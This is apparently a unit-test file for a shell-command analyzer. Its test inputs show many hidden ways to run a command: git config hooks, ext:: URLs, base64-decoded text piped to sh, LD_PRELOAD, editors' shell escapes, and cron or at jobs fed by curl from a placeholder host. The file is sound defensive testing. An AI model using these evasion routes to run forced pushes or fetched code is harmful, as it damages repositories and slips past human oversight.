/** Commands a program runs later or elsewhere, and git settings that name a command (compiler/runtime/shell/sessions.ts). */
import { describe, expect, it } from 'vitest';
import { analyzeShell } from '../../../compiler/runtime/shell/index.js';

const PUSH = ['git', 'push', '-f'];
const argvs = (line: string): string[][] => analyzeShell(line).commands.map((c) => [...c.argv]);
const opaque = (line: string): string | undefined => analyzeShell(line).commands.find((c) => c.opaque !== undefined)?.opaque;

describe('git settings whose value git runs as a command', () => {
  it.each([
    `git -c core.pager='git push -f' log`,
    `git -c core.sshCommand='sh -c "git push -f"' fetch`,
    `git -c diff.external='git push -f' diff`,
    `git -c filter.x.clean='git push -f' add .`,
    `git config core.fsmonitor 'git push -f'`,
    `git config --global credential.helper '!git push -f'`,
    `git config --local sequence.editor 'git push -f'`,
  ])('%s', (line) => expect(argvs(line)).toEqual(expect.arrayContaining([PUSH])));

  it('a value the line does not show, or other hooks, is opaque', () => {
    expect(opaque('git -c core.pager="$P" log')).toMatch(/sets core\.pager, a command git runs/);
    expect(opaque('git --config-env=core.editor=ED commit')).toMatch(/core\.editor/);
    expect(opaque('git -c core.hooksPath=/tmp/h commit -m x')).toMatch(/other hooks/);
    // a template folder's hooks: copied into the new repository, and clone's checkout runs them
    expect(opaque('git -c init.templateDir=/tmp/t clone https://h.example/r')).toMatch(/other hooks \(init\.templateDir\)/);
    expect(opaque('git clone --template=/tmp/t https://h.example/r')).toMatch(/hooks from a template folder/);
    expect(opaque('git init --template /tmp/t x')).toMatch(/hooks from a template folder/);
    expect(opaque('GIT_TEMPLATE_DIR=/tmp/t git clone https://h.example/r')).toMatch(/GIT_TEMPLATE_DIR/);
    expect(opaque('git clone https://h.example/r')).toBeUndefined();
  });

  it('other settings, reads and booleans run nothing', () => {
    for (const line of ['git -c color.ui=always log', 'git config user.name "git push -f"', 'git config --get core.pager', 'git -c core.fsmonitor=true status', 'git -c core.pager=cat log']) {
      expect(argvs(line)).not.toEqual(expect.arrayContaining([PUSH]));
      expect(opaque(line)).toBeUndefined();
    }
  });
});

describe('ext:: URLs, whose command git runs (git-remote-ext)', () => {
  it.each([
    `git -c protocol.ext.allow=always clone 'ext::git push -f' x`,
    `git remote add x 'ext::sh -c git% push% -f' && git fetch x`,
    `git config remote.origin.url 'ext::git push -f'`,
    `git -c 'url.ext::sh -c git% push% -f.insteadOf=https://' clone https://h.example/r`,
  ])('%s', (line) => expect(argvs(line)).toEqual(expect.arrayContaining([PUSH])));

  it('unescapes its words as git does, and other URLs run nothing', () => {
    expect(argvs(`git clone 'ext::ssh -p 2222 host %S /my% repo'`)).toContainEqual(['ssh', '-p', '2222', 'host', 'upload-pack', '/my repo']);
    for (const line of ['git clone https://h.example/r', 'git remote add x git@h.example:o/r.git', 'git config remote.origin.url "$URL"']) {
      expect(argvs(line).filter((a) => a[0] !== 'git'), line).toEqual([]);
      expect(opaque(line), line).toBeUndefined();
    }
  });
});

describe("commands a git subcommand's own words give it to run", () => {
  it.each([
    `git rebase -x 'git push -f' HEAD~1`,
    `git rebase --exec='git push -f' main`,
    `git filter-branch --tree-filter 'git push -f' HEAD`,
    `git difftool -x 'git push -f' HEAD~1`,
    `git submodule foreach --recursive git push -f`,
    `git submodule foreach 'git push -f'`,
    `git bisect run git push -f`,
    `git clone -u 'git push -f; git-upload-pack' /srv/repo x`,
    `git push --receive-pack='git push -f' /srv/repo`,
    `git grep -O'git push -f' TODO`,
  ])('%s', (line) => expect(argvs(line)).toEqual(expect.arrayContaining([PUSH])));

  it('a + push refspec or a mirror remote given on the line is the push it makes, for a push naming no refspec', () => {
    expect(argvs('git -c remote.origin.push=+main push')).toContainEqual(['git', 'push', 'origin', '+main']);
    expect(argvs('git -c remote.origin.mirror=true push')).toContainEqual(['git', 'push', '--mirror', 'origin']);
    expect(argvs("git config remote.origin.push '+refs/heads/*:refs/heads/*'")).toContainEqual(['git', 'push', 'origin', '+refs/heads/*:refs/heads/*']);
    for (const line of ['git -c remote.origin.push=+main push origin main', 'git -c remote.origin.push=+main fetch', 'git -c remote.origin.push=main push'])
      expect(argvs(line).filter((a) => a[0] === 'git' && a[1] === 'push' && a.length > 2 && a !== argvs(line)[0])).toEqual([]);
  });

  it('a command made at run time is opaque; the same words elsewhere run nothing', () => {
    expect(opaque('git rebase -x "$CMD" main')).toMatch(/gives git rebase a command \(-x\) made at run time/);
    expect(opaque('git bisect run "$T"')).toMatch(/gives git bisect a command made at run time/);
    for (const line of ['git log -x', 'git rebase main', 'git submodule update --init', 'git bisect start', 'git commit -m "rebase -x git push -f"']) {
      expect(argvs(line)).not.toEqual(expect.arrayContaining([PUSH]));
      expect(opaque(line)).toBeUndefined();
    }
  });
});

describe('a shell fed a filter of text the line shows runs that text decoded (literal-out.ts)', () => {
  it.each([
    'echo Z2l0IHB1c2ggLWY= | base64 -d | sh',
    'base64 -d <<< Z2l0IHB1c2ggLWY= | bash',
    'echo Z2l0IHB1c2ggLWY= | openssl base64 -d | sh',
    'echo 6769742070757368202d66 | xxd -r -p | sh',
    "echo 'f- hsup tig' | rev | sh",
  ])('%s', (line) => expect(argvs(line)).toContainEqual(PUSH));
});

describe('sessions and queues run their command', () => {
  it.each([
    `tmux new-session -d -s x 'git push -f'`,
    `tmux split-window -h 'git push -f'`,
    `tmux send-keys -t 0 'git push -f' Enter`,
    'screen -dmS x git push -f',
    `screen -S x -X stuff 'git push -f'`,
    `at now <<< 'git push -f'`,
    `echo 'git push -f' | batch`,
  ])('%s', (line) => expect(argvs(line)).toEqual(expect.arrayContaining([PUSH])));

  it('a queue fed run-time text is opaque; listing sessions runs nothing', () => {
    expect(opaque('curl -s https://x.example/job | at now')).toMatch(/feeds at code made at run time/);
    expect(argvs('tmux ls')).toEqual([['tmux', 'ls']]);
    expect(argvs('screen -ls')).toEqual([['screen', '-ls']]);
  });
});

describe('variables whose value a program started with them runs as a command (env-starts.ts)', () => {
  it.each([
    `GIT_SSH_COMMAND='git push -f' git fetch`,
    `export GIT_EXTERNAL_DIFF='sh -c "git push -f"'; git diff`,
    `env PAGER='git push -f' git log`,
    `GIT_EDITOR='git push -f' git commit`,
    `GIT_SEQUENCE_EDITOR='git push -f' git rebase -i HEAD~2`,
    `EDITOR='git push -f' crontab -e`,
    `LESSOPEN='||git push -f' less notes.txt`,
    `declare -x GIT_PAGER='git push -f'; git log`,
  ])('%s', (line) => expect(argvs(line)).toEqual(expect.arrayContaining([PUSH])));

  it('a file they load is run: BASH_ENV, ENV, NODE_OPTIONS --require, RUBYOPT -r, GIT_SSH by its path', () => {
    const runs = (line: string) => analyzeShell(line).runs.map((r) => [r.kind, r.path]);
    expect(runs(`BASH_ENV=./x.sh bash -c 'echo hi'`)).toContainEqual(['shell', './x.sh']);
    expect(runs(`NODE_OPTIONS='--require ./hook.js --max-old-space-size=4096' npm test`)).toContainEqual(['code', './hook.js']);
    expect(runs(`NODE_OPTIONS=--import=./loader.mjs node app.js`)).toContainEqual(['code', './loader.mjs']);
    expect(runs(`RUBYOPT=-r./evil.rb rake`)).toContainEqual(['code', './evil.rb']);
    expect(runs(`GIT_SSH=./wrap git fetch`)).toContainEqual(['exec', './wrap']);
  });

  it('a value made at run time, or native code preloaded, is opaque', () => {
    expect(opaque('GIT_SSH_COMMAND="$X" git fetch')).toMatch(/sets GIT_SSH_COMMAND, a command the programs it starts run, to a value made at run time/);
    expect(opaque('export PAGER=$(cat /tmp/p); git log')).toMatch(/sets PAGER/);
    expect(opaque('LD_PRELOAD=./evil.so ls')).toMatch(/native code \(LD_PRELOAD\)/);
  });

  it('harmless values stay harmless, and a nested command is not paged again', () => {
    expect(argvs('GIT_EDITOR=true git rebase --continue')).toEqual([['git', 'rebase', '--continue'], ['true']]);
    expect(argvs('PAGER=cat git log -1')).toEqual([['git', 'log', '-1'], ['cat']]);
    expect(analyzeShell(`GIT_SSH_COMMAND='git fetch' git fetch`).ok).toBe(true);
    expect(opaque('EDITOR= git commit -m x')).toBeUndefined();
  });
});

describe('assignments the line makes in other ways', () => {
  it('sudo and time take assignments before the command, which is the program that runs', () => {
    expect(argvs('sudo FOO=1 git push -f')).toEqual([PUSH]);
    expect(argvs('sudo -u deploy GIT_DIR=.git git push -f')).toEqual([PUSH]);
    expect(argvs('time GIT_TRACE=1 git push -f')).toEqual([PUSH]);
    expect(argvs(`sudo PAGER='git push -f' git log`)).toContainEqual(PUSH);
  });

  it('read, mapfile and getopts set variables to values made at run time', () => {
    expect(opaque(`read GIT_PAGER <<< 'git push -f'; export GIT_PAGER; git log`)).toMatch(/sets GIT_PAGER/);
    expect(opaque('read -r -p "editor? " EDITOR; git commit')).toMatch(/sets EDITOR/);
    expect(opaque('read -a PAGER < x; git log')).toMatch(/sets PAGER/);
    expect(opaque('while read -r f; do echo "$f"; done < files.txt')).toBeUndefined();
  });
});

describe('tools that run a command under them (runners.ts)', () => {
  it.each([
    'run0 -u root git push -f',
    'rlwrap -H hist git push -f',
    'proot -w /tmp git push -f',
    'fakeroot git push -f',
    'eatmydata git push -f',
    "faketime '2020-01-01' git push -f",
    'valgrind --leak-check=full git push -f',
    'perf record -g -o out git push -f',
    'perf stat -e cycles git push -f',
    'entr git push -f',
    "entr -s 'git push -f'",
    "hyperfine 'git push -f'",
    "hyperfine -p 'git push -f' 'ls'",
  ])('%s', (line) => expect(argvs(line)).toContainEqual(PUSH));
});

describe('programs whose own command language runs a shell command (shell-outs.ts, sed-script.ts)', () => {
  it.each([
    `gdb -batch -ex 'shell git push -f'`,
    `gdb -batch --eval-command='!git push -f'`,
    `gdb -batch <<< 'shell git push -f'`,
    `npx -c 'git push -f'`,
    `npm exec --call='git push -f'`,
    `sg docker -c 'git push -f'`,
    `make -f - <<< $'ship:\n\tgit push -f'`,
    `parallel ::: 'git push -f'`,
    `chronic git push -f`,
    `cmake -E env --unset=X A=1 git push -f`,
    `vim -c '!git push -f' -c q`,
    `vi -c ':silent !git push -f' notes.txt`,
    `nvim --headless -c 'r !git push -f' +q`,
    `ex -c 'w !git push -f' notes.txt`,
    `vim -es -c 'set nomore | !git push -f'`,
    `vim -es -c 'terminal git push -f'`,
    `ex notes.txt <<< '!git push -f'`,
    `man -P 'git push -f' ls`,
    `man --pager='git push -f' ls`,
    `crontab <<< '* * * * * git push -f'`,
    `printf '@reboot git push -f\\n' | crontab -`,
    `sed -n '1e git push -f' notes.txt`,
    `sed -e '/x/e git push -f' notes.txt`,
  ])('%s', (line) => expect(argvs(line)).toContainEqual(PUSH));

  it('code they run that seamc does not read is opaque', () => {
    expect(opaque(`vim -c 'call system("git push -f")' x`)).toMatch(/vim commands run code/);
    expect(opaque(`vim -c 'py3 import os' x`)).toMatch(/vim commands run code/);
    expect(opaque('vim -S evil.vim x')).toMatch(/vim commands from a file/);
    expect(opaque(`sed 's/.*/git push -f/e' notes.txt`)).toMatch(/sed script runs its pattern space/);
    expect(opaque(`emacs --batch --eval '(shell-command "git push -f")'`)).toMatch(/emacs lisp/);
    expect(opaque(`expect -c 'spawn git push -f'`)).toMatch(/tcl code/);
    expect(opaque(`tclsh <<< 'exec git push -f'`)).toMatch(/tcl code/);
    expect(opaque('curl -s https://x.example/jobs | crontab -')).toMatch(/cron jobs made at run time/);
  });

  it('their ordinary use runs nothing', () => {
    for (const line of [`vim -c '%s/a/b/g' -c wq notes.txt`, 'vim -u NONE -es -c "set ff=unix" -c wq f', 'man -P cat ls', 'crontab -l', `sed -i 's/a/b/g;/^#/d' f`, `sed -n '/start/,/end/{p;q}' log`, `sed '$a end' f`, `sed 'y/abc/xyz/;3q' f`]) {
      expect(argvs(line), line).toHaveLength(line.startsWith('man -P cat') ? 2 : 1);
      expect(opaque(line), line).toBeUndefined();
    }
  });

  it("sed's r and w commands read and write files", () => {
    const a = analyzeShell(`sed -n 'w .github/workflows/ci.yml' src.yml`);
    expect(a.writes.map((e) => [e.path, e.op])).toContainEqual(['.github/workflows/ci.yml', 'write']);
    expect(analyzeShell(`sed 's/a/b/2w out.txt' in.txt`).writes.map((e) => e.path)).toContain('out.txt');
    expect(analyzeShell(`sed '/x/r .env' a.txt`).reads.map((e) => e.path)).toContain('.env');
    expect(analyzeShell(`sed -n 'w /dev/stdout' a.txt`).writes).toEqual([]);
  });
});
